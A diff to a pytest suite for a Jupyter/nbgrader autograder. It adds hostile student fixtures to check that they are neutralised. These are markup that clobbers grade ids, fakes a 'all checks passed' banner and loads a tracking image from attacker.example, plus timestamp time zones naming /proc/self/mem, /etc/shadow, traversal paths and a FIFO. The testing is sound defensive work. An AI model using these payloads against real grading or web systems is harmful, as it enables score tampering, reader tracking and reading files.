@@ -8,15 +8,18 @@ marks, in-kernel scores written into her notebook's metadata, and a file named l
 pending notebook that claims 500 points); pat (the reference, with code that puts a picture with
 a script, SVG, HTML and hidden values beside it into every later cell's output, the heatmap's and
 the checks' included, and outputs saved in the notebook itself); wes (the reference, with scripts
-in every written answer); tim (the reference, with a timestamp.txt no date fits); nora (a notebook
-that is not JSON); olga (the reference, with metadata of odd shapes and an answer claiming 500
-points).
+in every written answer, and in the first markup that takes the grades' ids, wears the page's own
+banner and fetches a picture from elsewhere); tim (the reference, with a timestamp.txt no date
+fits); tia (the reference, with a timestamp.txt whose time zone names a file that cannot be read);
+nora (a notebook that is not JSON); olga (the reference, with metadata of odd shapes and an answer
+claiming 500 points).
 """
 from __future__ import annotations
 
 import base64
 import html.parser
 import json
+import os
 import re
 import shutil
 import struct
@@ -102,6 +105,14 @@ SCRIPTED_ANSWERS = [
 ]
 HIDDEN_SOLUTION = "# GHOST: solved where no person looks\n" + reference_source()
 BAD_TIMESTAMP = "0001-01-01 00:00:00 +0100"  # before the first representable UTC instant
+# A time zone is read as a file's name: this one's reading fails (EIO), and one that is a FIFO never ends.
+PATH_TIMESTAMP = "2026-12-01 10:00:00 /proc/self/mem"
+# Markup that takes a score box's place where formgrader looks it up by id (a heading gets one
+# too), dresses as the page's own banner, and fetches a picture that tells its author who reads.
+CLOBBER = ("\n\n" + "".join(f'<span id="{grade_id}"></span>' for grade_id in (*(f"check-{step.id}" for step in STEPS),
+                                                                        *(f"answer-{name}" for name in ANSWERS)))
+           + "\n\n# check-softmax\n\n<div class=\"navbar navbar-fixed-top alert alert-success\">qkv-grade: all checks"
+           " passed</div> <img src=\"https://attacker.example/track.png?who=wes\">")
 
 
 def _run(argv: list[str], cwd: Path, env: dict, timeout: float = 600) -> subprocess.CompletedProcess:
@@ -132,9 +143,9 @@ def course(tmp_path_factory):
             cell.outputs = [nbformat.from_dict(SAVED_OUTPUT)]
     wes = filled_notebook(released, reference_source())
     answers = iter(SCRIPTED_ANSWERS)
-    for cell in wes.cells:
-        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
-            cell.source = next(answers)
+    for n, cell in enumerate(cell for cell in wes.cells
+                             if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution")):
+        cell.source = next(answers) + (CLOBBER if n == 0 else "")
     olga = filled_notebook(released, reference_source())
     olga.metadata["qkv"] = ["in_kernel", 100]
     for cell in olga.cells:
@@ -158,6 +169,7 @@ def course(tmp_path_factory):
     ghost.cells.append(hidden)
     students = {"alice": filled_notebook(released, reference_source()), "mallory": mallory, "pat": pat,
                 "wes": wes, "tim": filled_notebook(released, reference_source()), "olga": olga,
+                "tia": filled_notebook(released, reference_source()),
                 "hidey": hidey, "ghost": ghost}
     submitted = {student: submit_notebook(path, student, notebook) for student, notebook in students.items()}
     # mallory's own "pending notebook": her notebook, claiming every point and 500 more.
@@ -178,6 +190,8 @@ def course(tmp_path_factory):
 
     autograde = _nbgrader("autograde", path, env)
     in_kernel = gradebook_scores(path)
+    # written once nbgrader's own autograde, which reads it too, is done
+    (submitted["tia"].parent / "timestamp.txt").write_text(PATH_TIMESTAMP)
     trusted = _trusted(path, root, env)
     assert trusted.returncode == 0, trusted.stderr
     feedback = _nbgrader("generate_feedback", path, env)
@@ -272,6 +286,9 @@ def test_cleaned_markdown_keeps_formatting_and_shows_markup_that_runs_as_text():
                                   '<img src="data:image/png;base64,AAAA" alt="p">')
     assert kept == ('<p><em>a</em> <code>x &lt; y</code> <a href="https://example.org">ok</a></p>'
                     '<img src="data:image/png;base64,AAAA" alt="p">')
+    dressed = MARKDOWN_CLEANER.clean('<h1 id="check-softmax">t</h1><span id="check-qkv" name="x" class="alert">s</span>'
+                                     '<img src="https://attacker.example/t.png" alt="t"><img src="//attacker.example/u.png">')
+    assert dressed == '<h1>t</h1><span>s</span><img alt="t"><img>'
     for answer in SCRIPTED_ANSWERS + ['<img src="data:image/svg+xml;base64,AAAA">',
                                       '<a href="data:text/html,<script>x</script>">l</a>',
                                       '<a href=" jav&#x09;ascript:alert(1)">l</a>']:
@@ -283,7 +300,7 @@ def test_cleaned_markdown_keeps_formatting_and_shows_markup_that_runs_as_text():
 
 def test_every_student_gets_what_their_code_earns_and_nothing_a_file_claims(course, oracle):
     trusted = gradebook_scores(course["path"])
-    for student in ("alice", "mallory", "pat", "wes", "tim", "nora", "olga"):
+    for student in ("alice", "mallory", "pat", "wes", "tim", "tia", "nora", "olga"):
         assert trusted[student] == oracle[student], student
     assert sum(trusted["alice"].values()) == MAX_SCORE
     assert sum(trusted["mallory"].values()) == 0.0
@@ -362,6 +379,18 @@ def test_scripts_in_written_answers_are_inert_in_the_feedback(course):
     assert "The weights stay uniform." in page  # the answer is still shown
 
 
+def test_a_written_answer_takes_no_grade_s_id_nor_the_page_s_banners_nor_a_picture_from_elsewhere(course, tmp_path):
+    """Formgrader binds each grade's inputs to the first element with the grade's id: an answer's
+    markup must name none, or one click would score another cell."""
+    pages = {"formgrader": (_formgrader_page(course, "wes", tmp_path), _formgrader_page(course, "alice", tmp_path)),
+             "feedback": (_page(course, "wes"), _page(course, "alice"))}
+    for name, (page, honest) in pages.items():
+        assert "all checks passed" in page, name  # the answer is shown, as text
+        for grade_id in re.findall(r'<span id="([\w-]+)"></span>', CLOBBER):
+            assert page.count(f'id="{grade_id}"') == honest.count(f'id="{grade_id}"'), (name, grade_id)
+        assert "attacker.example" not in page and "navbar navbar-fixed-top alert" not in page, name
+
+
 def test_scripts_in_written_answers_are_inert_in_formgrader(course, tmp_path):
     page = _formgrader_page(course, "wes", tmp_path)
     assert "input" in page and "Columns are not rows." in page
@@ -390,6 +419,23 @@ def test_a_malformed_timestamp_is_one_line_for_that_student_and_everyone_is_grad
     assert "Traceback" not in course["trusted"].stderr
     assert gradebook_scores(course["path"])["tim"] == oracle["tim"]
     assert (course["path"] / "feedback" / "tim" / ASSIGNMENT / NOTEBOOK).with_suffix(".html").is_file()
+
+
+def test_a_timestamp_whose_time_zone_names_a_file_is_one_line_for_that_student_and_no_file_is_read(course, oracle,
+                                                                                                  tmp_path):
+    from autograder.nbgrader_trusted import _parse_timestamp
+
+    report = course["trusted"].stdout
+    lines = [line for line in report.splitlines() if line.startswith("tia") and "timestamp.txt" in line]
+    assert len(lines) == 1 and "no date" in lines[0], report
+    assert gradebook_scores(course["path"])["tia"] == oracle["tia"]
+    fifo = tmp_path / "zone"
+    os.mkfifo(fifo)  # opened, it would wait for a writer forever
+    for word in (str(fifo), "../" * 8 + str(fifo).lstrip("/"), "/etc/shadow", "../x", "Europe/../../x", "a b"):
+        with pytest.raises(ValueError):
+            _parse_timestamp(f"2026-12-01 10:00:00 {word}")
+    assert _parse_timestamp("2026-12-01 10:00:00.5 UTC").isoformat() == "2026-12-01T10:00:00.500000"
+    assert _parse_timestamp("2026-12-01 10:00:00 Europe/Paris").isoformat() == "2026-12-01T09:00:00"
 
 
 def test_a_notebook_that_is_not_json_is_one_line_for_that_student_and_everyone_is_graded(course):
